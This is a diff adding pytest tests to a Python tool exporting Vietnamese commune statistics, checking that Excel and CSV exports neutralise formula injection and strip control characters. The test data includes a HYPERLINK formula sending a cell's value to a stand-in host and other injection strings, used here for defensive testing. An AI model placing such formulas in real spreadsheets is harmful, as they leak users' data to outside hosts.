@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pandas as pd
 from openpyxl import load_workbook
 
@@ -55,3 +58,40 @@ def test_export_excel_keeps_a_pivot_index_and_integer_counts(sample_table, tmp_p
     assert ("Phường Đức Xuân", 1399, 1450, 1417, 1730, 1680) in rows
     back = pd.read_excel(out)
     assert len(back) == 8
+
+
+FORMULA_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'
+
+
+def test_export_excel_stores_a_formula_like_name_as_text(sample_frame, tmp_path):
+    """Issue 22, item 2: a unit name starting with '=' is text in the pivot's index and the tidy frame, never a formula."""
+    from khuyenhoc.table import table_from_frame
+
+    sample_frame.loc[sample_frame["unit_id"] == "duc-xuan", "unit_name"] = FORMULA_NAME
+    tidy = indicators_frame(table_from_frame(sample_frame))
+    units = tidy[(tidy["scope_type"] == "unit") & (tidy["level"] == "commune")]
+    for frame, name in ((pivot_indicator(units, "members"), "pivot.xlsx"), (units, "tidy.xlsx")):
+        sheet = load_workbook(export_excel(frame, tmp_path / name)).active
+        column = [c.value for c in sheet[1]].index("unit_name") + 1
+        cells = [row[column - 1] for row in sheet.iter_rows(min_row=2) if row[column - 1].value == FORMULA_NAME]
+        assert cells and all(cell.data_type == "s" for cell in cells), name
+        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+
+
+def test_export_excel_drops_characters_a_workbook_cannot_hold(tmp_path):
+    """Issue 22, item 10: openpyxl refuses control characters (IllegalCharacterError); the writer removes them."""
+    frame = pd.DataFrame({"unit_name": ["Xã\x01 An", "Xã Bình"], "members": [10, None]})
+    rows = list(load_workbook(export_excel(frame, tmp_path / "x.xlsx")).active.iter_rows(values_only=True))
+    assert rows == [("unit_name", "members"), ("Xã An", 10), ("Xã Bình", None)]
+
+
+def test_csv_cells_that_would_start_a_formula_get_a_quote():
+    """Issue 22, item 2 (OWASP CSV injection): =, +, -, @, tab and CR starting a text cell get a leading '; numbers
+    and text that is only a signed number do not."""
+    from khuyenhoc.spreadsheet import csv_text
+
+    frame = pd.DataFrame({"name": [FORMULA_NAME, "+1+cmd", "-12 người", "@SUM(A1)", "\tx", "Xã An", "-5,6", None],
+                          "value": pd.Series([1, -2, 3, None, 5, 6, 7, 8], dtype=object)})
+    rows = list(csv.reader(io.StringIO(csv_text(frame).removeprefix("\ufeff"))))
+    assert [row[0] for row in rows[1:]] == ["'" + FORMULA_NAME, "'+1+cmd", "'-12 người", "'@SUM(A1)", "'\tx", "Xã An", "-5,6", ""]
+    assert [row[1] for row in rows[1:]] == ["1", "-2", "3", "", "5", "6", "7", "8"]
